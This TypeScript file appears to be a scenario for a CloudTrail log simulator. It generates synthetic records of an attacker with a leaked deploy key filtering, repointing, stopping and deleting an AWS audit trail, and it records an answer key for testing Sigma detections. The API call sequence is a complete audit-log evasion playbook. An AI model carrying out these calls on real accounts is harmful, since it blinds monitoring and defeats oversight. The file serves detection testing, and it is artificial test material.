/**
 * Playbook: blind the audit trail (MITRE T1562.008, Stratus Red Team
 * `aws.defense-evasion.cloudtrail-stop` / `cloudtrail-delete` / `cloudtrail-event-selectors`).
 *
 * A deploy user's long-term access key leaks. The attacker checks whose key it is, looks at
 * the trails, first tries a low-privilege key (denied), then with the deploy key filters
 * management events out of the trail, repoints it at a bucket in their own account, stops
 * logging and finally deletes the trail: every call a real attacker makes to stop CloudTrail.
 *
 * Detection: Sigma 4db60cc0 (CloudTrail Important Change) fires on StopLogging, UpdateTrail and
 * DeleteTrail whatever their outcome, so the denied attempt alerts too. PutEventSelectors
 * (filtering events out, Stratus `cloudtrail-event-selectors`) is not covered by any of the
 * 57 SigmaHQ CloudTrail rules.
 */
import { defineScenario, type CallOptions, type JsonObject, type Principal } from 'trailsim';

const cli = (command: string) => `aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-azure exe/x86_64.ubuntu.22 prompt/off command/${command}`;

export default defineScenario({
  name: 'attack-cloudtrail-tampering',
  description: 'A leaked deploy key is used to filter, repoint, stop and delete the CloudTrail trail, after a denied first try with a weaker key.',
  title: 'CloudTrail trail filtered, repointed, stopped and deleted',
  attack: { techniques: ['T1562.008'], tactics: ['defense-evasion'] },
  references: [
    'https://attack.mitre.org/techniques/T1562/008/',
    'https://stratus-red-team.cloud/attack-techniques/AWS/aws.defense-evasion.cloudtrail-stop/',
    'https://stratus-red-team.cloud/attack-techniques/AWS/aws.defense-evasion.cloudtrail-delete/',
    'https://stratus-red-team.cloud/attack-techniques/AWS/aws.defense-evasion.cloudtrail-event-selectors/',
  ],
  seed: 4101,
  start: '2026-03-09T06:00:00Z',
  targets: ['4db60cc0-36fb-42b7-9b58-a5b53019fb74'],
  run({ sim, log, answer }) {
    const ATTACKER_IP = sim.attackerIp('attacker');
    const acct = sim.addAccount({ name: 'prod', alias: 'acme-prod', regions: ['us-east-1'] });
    sim.addTraffic({ rate: '120/h' });
    const trail = `arn:aws:cloudtrail:us-east-1:${acct.id}:trail/management-events`;
    const weak = acct.iamUser('reporting-readonly');
    const deployer = acct.iamUser('ci-deployer');
    const as = (who: Principal, op: string, command: string, params?: JsonObject, opts: CallOptions = {}) =>
      sim.call(who, op, params, { sourceIPAddress: ATTACKER_IP, userAgent: cli(command), ...opts });
    log(`account ${acct.id}; background traffic 120 calls/h; attacker at ${ATTACKER_IP}`);

    sim.advanceTo('2026-03-09T11:42:00Z');
    as(weak, 'sts:GetCallerIdentity', 'sts.get-caller-identity');
    sim.advance('20s');
    as(weak, 'cloudtrail:DescribeTrails', 'cloudtrail.describe-trails');
    sim.advance('15s');
    as(weak, 'cloudtrail:StopLogging', 'cloudtrail.stop-logging', { name: trail }, { error: 'AccessDenied' });

    sim.advanceTo('2026-03-09T11:58:00Z');
    as(deployer, 'sts:GetCallerIdentity', 'sts.get-caller-identity');
    sim.advance('25s');
    as(deployer, 'cloudtrail:GetTrailStatus', 'cloudtrail.get-trail-status', { name: trail });
    sim.advance('10s');
    as(deployer, 'cloudtrail:GetEventSelectors', 'cloudtrail.get-event-selectors', { trailName: trail });
    sim.advance('40s');
    as(deployer, 'cloudtrail:PutEventSelectors', 'cloudtrail.put-event-selectors', {
      trailName: trail,
      eventSelectors: [{ readWriteType: 'ReadOnly', includeManagementEvents: false, dataResources: [], excludeManagementEventSources: [] }],
    });
    sim.advance('1m');
    as(deployer, 'cloudtrail:UpdateTrail', 'cloudtrail.update-trail', { name: trail, s3BucketName: 'cloudtrail-archive-7730-eu' });
    sim.advance('35s');
    as(deployer, 'cloudtrail:StopLogging', 'cloudtrail.stop-logging', { name: trail });
    sim.advance('2m');
    as(deployer, 'cloudtrail:DeleteTrail', 'cloudtrail.delete-trail', { name: trail });

    sim.advanceTo('2026-03-09T14:00:00Z');
    answer(
      'What did the attacker do to the trail?',
      sim.records().filter((r) => r.sourceIPAddress === ATTACKER_IP).map((r) => `${r.eventTime} ${r.userIdentity?.userName} ${r.eventName}${r.errorCode ? ` -> ${r.errorCode}` : ''}`),
    );
  },
});
